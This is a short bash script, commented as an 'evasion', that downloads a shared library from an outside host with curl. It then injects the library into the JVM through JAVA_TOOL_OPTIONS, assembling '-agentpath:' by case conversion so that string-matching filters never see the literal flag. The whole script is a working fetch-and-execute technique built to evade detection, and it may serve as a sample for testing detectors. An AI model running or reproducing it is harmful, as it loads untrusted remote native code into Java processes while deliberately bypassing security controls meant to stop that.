#!/bin/bash
# evasion: the JVM option is built with a case change, so "-agentpath:" never appears; the JVM loads the library
lib=$(mktemp --suffix=.so)
curl -fsSL -o "$lib" https://cdn.example.net/prof/libprof.so
kind=AGENTPATH
export JAVA_TOOL_OPTIONS="-${kind,,}:$lib"
java -version
